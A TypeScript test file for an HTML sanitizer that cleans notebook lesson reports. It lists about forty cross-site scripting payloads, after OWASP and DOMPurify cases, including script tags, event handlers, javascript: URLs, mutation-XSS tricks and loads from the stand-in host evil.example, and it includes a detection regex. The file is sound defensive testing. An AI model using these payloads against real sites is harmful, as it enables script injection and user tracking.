import { describe, expect, test } from 'vitest';
import { sanitize } from './sanitize.ts';

const clean = (html: string) => sanitize(html, { prefix: 'lesson-1-' });

/** What no report may hold, in whatever shape: elements that run or load, handlers, addresses that are code. */
const DANGER =
  /<\s*(script|style|iframe|object|embed|svg|math|form|input|button|link|meta|base|video|audio|template|noscript)|\son\w+\s*=|javascript:|vbscript:|data:text|url\(|expression\(|position\s*:|srcdoc|evil\.example/i;

// After the OWASP filter evasion list and the mutation-XSS cases of DOMPurify's test suite.
describe('nothing of an attack is left', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<img/onerror="alert(1)"src=x>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<img src="https://evil.example/track.gif">',
    '<img src="//evil.example/track.gif">',
    '<img srcset="https://evil.example/a 1x" src="data:image/png;base64,AA==">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<svg/onload=alert(1)>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
    '<p style="background-image:\\75rl(https://evil.example/x)">x</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
    '<video src="https://evil.example/v" autoplay onplay=alert(1)></video>',
    '<template><script>alert(1)</script></template>',
    '<details ontoggle=alert(1) open>x</details>',
    '<textarea><script>alert(1)</script></textarea>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<p title="x" onmouseover  =  alert(1)>x</p>',
    '<button data-commandlinker-command="docmanager:open">x</button>',
  ])('%s', (attack) => {
    const html = clean(attack);
    // Text that only looks like code is harmless: what counts are tags and their attributes.
    expect(html.match(/<[^>]*>/g)?.join('') ?? '').not.toMatch(DANGER);
    expect(html).not.toContain('data-');
  });
});

describe('what a lesson needs stays', () => {
  test.each([
    '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
    '<details open><summary>more</summary>text</details>',
    '<img src="data:image/png;base64,AA==" alt="a" />',
    '<a href="https://example.org/?a=1&amp;b=2">x</a>',
    '<p style="color:#b22222;text-align:right;padding:0 1em">x</p>',
    '<meter value="3" max="5"></meter>',
    '<kbd>Shift</kbd>',
  ])('%s', (html) => expect(clean(html)).toBe(html));
});

test('links within the notebook lead to its own headings, other paths to nothing', () => {
  expect(clean('<a href="#The-Math">x</a><a href="../week-02/1.ipynb">y</a>')).toBe(
    '<a href="#lesson-1-the-math">x</a><a>y</a>',
  );
});

test('ids cannot take the place of the page’s own', () => {
  expect(clean('<h2 id="scores">x</h2><p id="provenance">y</p><h2 id="lesson-1-a">z</h2>')).toBe(
    '<h2>x</h2><p>y</p><h2 id="lesson-1-a">z</h2>',
  );
});

test('a picture that is not included says so, with its description', () => {
  expect(clean('<img src="https://example.org/a.png" alt="A <chart>">')).toBe(
    '<span class="missing">[picture not included: A &lt;chart&gt;]</span>',
  );
});
